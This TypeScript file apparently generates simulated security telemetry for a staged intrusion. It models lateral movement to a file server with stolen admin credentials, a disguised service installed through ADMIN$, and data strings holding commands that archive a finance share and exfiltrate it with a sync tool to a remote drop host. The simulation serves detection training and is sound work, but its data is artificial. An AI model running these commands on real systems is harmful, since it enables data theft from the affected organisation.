/** The file server, entered with the administrator's credentials; its files are packed and sent. */
import { deviceEventRow, dnsAnswer, serviceInstalled } from '../events/device-events.ts'
import { fileRow } from '../events/files.ts'
import { domainLogon } from '../events/identity.ts'
import { logonRow } from '../events/logons.ts'
import { connection, inbound } from '../events/network.ts'
import { registryValueSet } from '../events/registry.ts'
import { NETBIOS, SYSTEM } from '../firm.ts'
import { KERNEL_ID } from '../machine.ts'
import { KERNEL, PROGRAMS } from '../software.ts'
import { MINUTE } from '../time.ts'
import { DROP, MOMENT, type Plot, started } from './plot.ts'

export function fileServerChapter(plot: Plot): void {
  enter(plot)
  send(plot)
}

function enter(plot: Plot): void {
  const { world, firm, machine, step, times, files, acting } = plot
  const { victimDevice, fileServer, stolen } = firm
  const { random } = world
  const server = machine(fileServer)
  step(times.lateral, victimDevice, (at) =>
    connection(world, at, acting.helper!, { name: fileServer.name, ip: fileServer.ip, port: 445 }),
  )
  step(times.lateral, undefined, (at) => {
    domainLogon(world, at + MOMENT, stolen, victimDevice, fileServer, 'Ntlm', true)
    domainLogon(world, at + 40 * MOMENT, stolen, victimDevice, fileServer, 'Ntlm', false)
  })
  step(times.lateral + MOMENT, fileServer, (at) => {
    const lsass = server.ensure('lsass', at)
    const services = server.ensure('services', at)
    const kernel = server.run(KERNEL, {
      at: server.ensure('smss', at).created - MOMENT,
      commandLine: '',
      account: SYSTEM,
      parent: undefined,
      id: KERNEL_ID,
    })
    inbound(world, at, kernel, victimDevice, 445)
    const logon = {
      device: fileServer,
      account: stolen,
      type: 'Network',
      protocol: 'NTLM',
      from: victimDevice,
      process: lsass,
    } as const
    logonRow(world, { ...logon, at, failure: 'InvalidUserNameOrPassword' })
    logonRow(world, { ...logon, at: at + 39 * MOMENT, isLocalAdmin: true })
    fileRow(world, at + 55 * MOMENT, kernel, 'FileCreated', files.service, {
      RequestProtocol: 'SMB',
      RequestSourceIP: victimDevice.ip,
      RequestSourcePort: random.int(49_152, 65_500),
      RequestAccountName: stolen.name,
      RequestAccountDomain: NETBIOS.toUpperCase(),
      RequestAccountSid: stolen.sid,
      ShareName: 'ADMIN$',
    })
    registryValueSet(
      world,
      at + 60 * MOMENT,
      services,
      'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\OneSyncSvc',
      'ImagePath',
      'ExpandString',
      files.service.folderPath,
    )
    deviceEventRow(world, at + 60 * MOMENT, services, 'ServiceInstalled', serviceInstalled('OneSyncSvc', files.service))
    acting.service = started(plot, server, files.service, at + 62 * MOMENT, services, files.service.folderPath, SYSTEM)
  })
}

function send(plot: Plot): void {
  const { world, firm, machine, step, times, files, acting } = plot
  const { fileServer } = firm
  const server = machine(fileServer)
  step(times.lateral + 40 * MINUTE, fileServer, (at) => {
    const cmd = started(
      plot,
      server,
      PROGRAMS.get('cmd')!,
      at,
      acting.service,
      'cmd.exe /c C:\\ProgramData\\sync\\pack.cmd',
      SYSTEM,
    )
    fileRow(world, at - 4 * MINUTE, acting.service!, 'FileCreated', files.archiver)
    fileRow(world, at - 3 * MINUTE, acting.service!, 'FileCreated', files.copier)
    const packing = started(
      plot,
      server,
      files.archiver,
      at + 2 * MOMENT,
      cmd,
      '7z.exe a -mx1 -v500m C:\\ProgramData\\sync\\fin.7z D:\\Shares\\Finance\\*',
      SYSTEM,
    )
    fileRow(world, at + 25 * MINUTE, packing, 'FileCreated', files.archive)
  })
  step(times.end - 100 * MINUTE, fileServer, (at) => {
    acting.copier = started(
      plot,
      server,
      files.copier,
      at,
      acting.service,
      'syncutil.exe copy C:\\ProgramData\\sync nimbus:drop --transfers 8 --no-check-certificate --config C:\\ProgramData\\sync\\s.conf',
      SYSTEM,
    )
    deviceEventRow(world, at + MOMENT, acting.copier, 'DnsQueryResponse', dnsAnswer(DROP))
  })
  for (let i = 0; i < 24; i++) {
    step(times.end - (99 - i * 4) * MINUTE, fileServer, (at) => connection(world, at, acting.copier!, DROP))
  }
}
